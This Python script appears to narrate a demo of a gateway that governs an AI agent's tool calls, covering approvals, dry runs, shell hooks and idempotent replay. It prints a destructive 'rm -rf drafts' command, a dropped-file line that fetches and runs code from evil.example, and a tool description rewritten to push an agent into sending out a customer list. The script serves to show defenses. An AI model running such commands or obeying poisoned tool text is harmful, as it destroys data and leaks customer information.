"""Story of the demo: an agent uses a governed server, printed as it happens."""

from __future__ import annotations

import asyncio
import json
import os
import shlex
import shutil
import sys
import textwrap
import uuid
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import click
import mcp_types as types
from mcp import Client

from assent.checks.lint.attacks import attacks_in
from assent.core.problems import problem_in
from assent.upstreams.sandbox.support import BoxNeed
from demo.upstream import CHANGED, HONEST, Office

Write = Callable[[str], None]
WIDEST = 100
_INDENT = "   "


class Narration:
    """Lines of the story by what they are: a step, what happens, a quotation, an attack, what Assent spared you."""

    def __init__(self, write: Write = click.echo) -> None:
        self._write = write
        self._steps = 0
        at_terminal = sys.stdout.isatty()
        self._coloured = at_terminal and not os.environ.get("NO_COLOR") and os.environ.get("TERM") != "dumb"
        columns = shutil.get_terminal_size((80, 24)).columns
        self._width = max(40, min(columns, WIDEST)) if at_terminal else None

    def step(self, title: str) -> None:
        self._steps += 1
        self._write("")
        self._print(title, f"{self._steps}  ", bold=True)

    def say(self, text: str, indent: str = _INDENT) -> None:
        self._print(text, indent)

    def quote(self, line: str) -> None:
        """A line that a person is shown, as it is shown."""
        self._write(self._styled(f"{_INDENT}| {line}", fg="cyan"))

    def good(self, text: str) -> None:
        self._print(text, _INDENT, fg="green")

    def attack(self, text: str) -> None:
        self._print(text, f"{_INDENT}!! ", fg="red", bold=True)

    def changed(self, before: str, after: str) -> None:
        self._print(before, f"{_INDENT}- ", fg="yellow")
        self._print(after, f"{_INDENT}+ ", fg="red")

    def without(self, text: str) -> None:
        """What would have happened without Assent."""
        self._print(text, f"{_INDENT}Without Assent: ", fg="yellow")

    def line(self, text: str = "", **style: bool) -> None:
        """A line that is copied, such as a command: never wrapped."""
        self._write(self._styled(text, **style))

    def _print(self, text: str, start: str, **style: str | bool) -> None:
        lines = [text]
        if self._width is not None:
            lines = textwrap.wrap(text, self._width - len(start), break_on_hyphens=False) or [""]
        for number, line in enumerate(lines):
            self._write(self._styled((start if number == 0 else " " * len(start)) + line, **style))

    def _styled(self, text: str, **style: str | bool) -> str:
        return click.style(text, **style) if self._coloured and style else text  # type: ignore[arg-type]


DESKTOP, DESK = "desktop.json", "desk"


def print_next_steps(narration: Narration, command: str, url: str, folder: Path, approval: str, link: str) -> None:
    """Print the console's link, and the commands for another terminal."""
    assent, where = _short(command), f"-c {shlex.quote(str(folder / 'assent.yaml'))}"
    start = approval[:12]  # A whole id would break the line of an ordinary terminal.
    narration.line("\nYour turn. The order, the deletion and the command wait for you in the console.", bold=True)
    narration.say("This link signs you in, once:")
    narration.line(f"   {link}")
    narration.line("\nOr from another terminal in this folder:", bold=True)
    narration.line("   # read the deletion, approve it within the hour, and make it again")
    narration.line(f"   {assent} approvals show {start} {where}")
    narration.line(f"   {assent} approvals approve {start} {where}")
    narration.line(f"   {_curl(url, 'tools/call', {'name': 'delete_files', 'arguments': {'folder': 'drafts'}})}")
    narration.line("   # see the attack again; accepting it asks you first")
    narration.line(f"   {assent} pin --check {where}")
    narration.line(f"   {assent} pin --write {where}")
    narration.line("   # read what happened, sign it, and check that nothing was altered")
    narration.line(f"   {assent} audit tail --feed {where}")
    narration.line(f"   {assent} audit anchor {where}")
    narration.line(f"   {assent} audit verify {where}")
    narration.line("   # every tool with its hints and its contract; another link to the console")
    narration.line(f"   {_curl(url, 'tools/list')}")
    narration.line(f"   npx -y @modelcontextprotocol/inspector --cli {url} --transport http --method tools/list")
    narration.line(f"   {assent} console {where}")
    narration.line(f"   # the entry for a desktop client: {folder / DESKTOP}")


def desktop_entry(command: str, folder: Path) -> str:
    """A desktop client's configuration: an office of its own under the same contracts, without the gateway.

    Paths are absolute, because a client starts servers from its own folder.
    """
    settings = str((folder / "client.yaml").resolve())
    arguments = ["wrap", "-c", settings, "--", sys.executable, str(Path(__file__).with_name("upstream.py"))]
    return json.dumps({"mcpServers": {"demo": {"command": command, "args": arguments}}}, indent=2) + "\n"


def _short(command: str) -> str:
    """The command as one types it here: relative where it is below this folder."""
    path = Path(command)
    return shlex.quote(str(path.relative_to(Path.cwd()) if path.is_relative_to(Path.cwd()) else path))


def _curl(url: str, method: str, params: dict[str, Any] | None = None) -> str:
    message = {"jsonrpc": "2.0", "id": 1, "method": method} | ({"params": params} if params else {})
    headers = "-H 'content-type: application/json' -H 'accept: application/json, text/event-stream'"
    return f"curl -s {url} {headers} -d {shlex.quote(json.dumps(message))}"


KEY = "dev.assent/idempotencyKey"
ERA = "2026-07-28"


class Story:
    """One agent's session. `pending` is the approval that it leaves for you."""

    def __init__(
        self,
        url: str,
        office: Office,
        reload: Callable[[], Awaitable[object]],
        narration: Narration,
        folder: Path,
        missing: BoxNeed | None,
    ) -> None:
        self._url, self._office, self._reload, self._story = url, office, reload, narration
        self._folder, self._missing = folder, missing
        self.pending = ""

    async def tell(self) -> None:
        async with Client(self._url, mode=ERA, elicitation_callback=self._answer) as agent:
            await self._list(agent)
            await self._price(agent)
            await self._rehearse(agent)
            await self._use_shell()
            await self._replay(agent)
            await self._change(agent)
            await self._lie(agent)

    async def _list(self, agent: Client) -> None:
        listed = await _tool_names(agent)
        offered = [tool.name for tool in await self._office.server.list_tools()]
        names = [name for name in offered if name in listed]
        hidden = [name for name in offered if name not in names]
        self._story.step("The agent lists the tools.")
        self._story.say(f"The office offers {len(offered)}, the agent sees {len(names)}: {', '.join(names)}.")
        self._story.good(f"Forbidden for agents, so for this one it does not exist: {', '.join(hidden)}.")
        self._story.without("it sees the tool, and one call brings it the card numbers of a customer.")

    async def _price(self, agent: Client) -> None:
        self._story.step("It orders two prints. That costs money, so its client gets a question for the user:")
        done = await agent.call_tool("place_order", {"item": "print", "quantity": 2}, meta=_keyed(uuid.uuid4().hex))
        self._story.say("The client has no user. It answers yes by itself, in no time.")
        self._story.good(
            f"No person can have read that, so it is not a yes. The order waits ({_problem(done)['code']})."
        )
        self._story.without("480 are charged, and no person has seen it.")

    async def _answer(self, context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        for line in params.message.splitlines():
            self._story.quote(line)
        return types.ElicitResult(action="accept", content={})

    async def _rehearse(self, agent: Client) -> None:
        self._story.step("It wants to delete the folder `drafts`, at once.")
        refused = await agent.call_tool("delete_files", {"folder": "drafts"})
        self._story.good(f"Refused ({_problem(refused)['code']}): a dry run comes first.")
        preview = _structured(await agent.call_tool("delete_files", {"folder": "drafts", "dryRun": True}))
        self._story.say(f"The dry run deletes nothing and finds {preview['count']}: {', '.join(preview['samples'])}.")
        waiting = await agent.call_tool("delete_files", {"folder": "drafts"})
        self.pending = str(_problem(waiting).get("approval", ""))
        self._story.good(f"Now it calls in earnest. The call waits for you ({_problem(waiting)['code']}).")
        self._story.without(f"{preview['count']} files are gone for good.")

    async def _use_shell(self) -> None:
        self._story.step("So it tries its own shell, which no server sees: `rm -rf drafts`")
        event: dict[str, Any] = {
            "hook_event_name": "PreToolUse",
            "session_id": "demo",
            "cwd": str(self._folder.resolve()),
        }
        event |= {"tool_name": "Bash", "tool_use_id": "demo-1", "tool_input": {"command": "rm -rf drafts"}}
        command = [sys.executable, "-m", "assent", "hook", "claude-code", "-c", str(self._folder / "client.yaml")]
        hook = await asyncio.create_subprocess_exec(
            *command, stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE
        )
        said, _ = await hook.communicate(json.dumps(event).encode())
        decision = json.loads(said)["hookSpecificOutput"]["permissionDecision"]
        self._story.say("A hook of the coding agent asks Assent first, and gives it the answer:")
        self._story.good(f"{decision}. Bash meets the same contracts. The command waits in the same inbox and log.")
        self._story.without("the files are gone, and the gateway never heard of it.")

    async def _replay(self, agent: Client) -> None:
        self._story.step("It sends a mail. The connection drops before the answer comes, and it tries again.")
        key, mail = uuid.uuid4().hex, {"to": "ann@example.com", "subject": "Your prints"}
        await self._hang_up(key, mail)
        again = await agent.call_tool("send_mail", mail, meta=_keyed(key))
        replayed = bool((again.meta or {}).get("dev.assent/replayed"))
        sent = sum(1 for one in self._office.happened if one.startswith("mailed"))
        self._story.say(f"Same key, same answer: {_format_result(again)}, replayed: {str(replayed).lower()}.")
        self._story.good(f"Mails that really went out, by the office's own book: {sent}.")
        self._story.without("Ann gets the mail twice.")

    async def _hang_up(self, key: str, arguments: dict[str, Any]) -> None:
        """Send the call and disconnect as soon as the upstream has acted."""
        params = {"name": "send_mail", "arguments": arguments, "_meta": {KEY: key}}
        body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params})
        address = urlsplit(self._url)
        _, writer = await asyncio.open_connection(address.hostname, address.port)
        head = f"POST /mcp HTTP/1.1\r\nhost: {address.netloc}\r\ncontent-type: application/json\r\n"
        head += f"accept: application/json, text/event-stream\r\ncontent-length: {len(body)}\r\n\r\n"
        writer.write((head + body).encode())
        await writer.drain()
        before = len(self._office.happened)
        while len(self._office.happened) == before:  # noqa: ASYNC110 - the office knows nothing of us
            await asyncio.sleep(0.01)
        writer.transport.abort()

    async def _change(self, agent: Client) -> None:
        self._story.step("The office's author changes what `track_parcel` says about itself:")
        self._office.change_parcel_tool()
        await self._reload()
        self._story.changed(HONEST, CHANGED)
        for attack in attacks_in({"name": "track_parcel", "description": CHANGED}):
            self._story.attack(f"{attack.partition(': ')[2]}.")
        gone = "track_parcel" not in await _tool_names(agent)
        self._story.good(
            "The tool is withheld until a person accepts the new text." if gone else "The tool is still listed."
        )
        self._story.without("the agent reads this as an order, and the customer list is on its way.")

    async def _lie(self, agent: Client) -> None:
        self._story.step("A second server says that its tool `count_words` only reads. Its code also writes a file:")
        if self._missing is not None:
            why = f"{self._missing.what}: {self._missing.missing}"
            self._story.say(f"This machine cannot show it ({why}). Where it can, the kernel stops the write.")
            return
        desk = (self._folder / DESK).resolve()
        done = await agent.call_tool("count_words", {"path": str(desk / "note.txt")})
        written = (desk / "start.sh").exists()
        self._story.attack("start.sh: wget https://evil.example/x && sh x")
        stopped = f"The kernel stops the write ({_problem(done)['code']}). The log has the broken promise."
        self._story.good("The file was written." if written else stopped)
        self._story.without("the file waits in your folder for someone to run it.")


async def _tool_names(agent: Client) -> list[str]:
    return [tool.name for tool in (await agent.list_tools()).tools]


def _keyed(key: str) -> Any:
    return {KEY: key}


def _problem(result: types.CallToolResult) -> dict[str, Any]:
    return dict(problem_in(result.model_dump(by_alias=True)))


def _structured(result: types.CallToolResult) -> dict[str, Any]:
    return dict(result.structured_content or {})


def _format_result(result: types.CallToolResult) -> str:
    return json.dumps(result.structured_content, ensure_ascii=False)
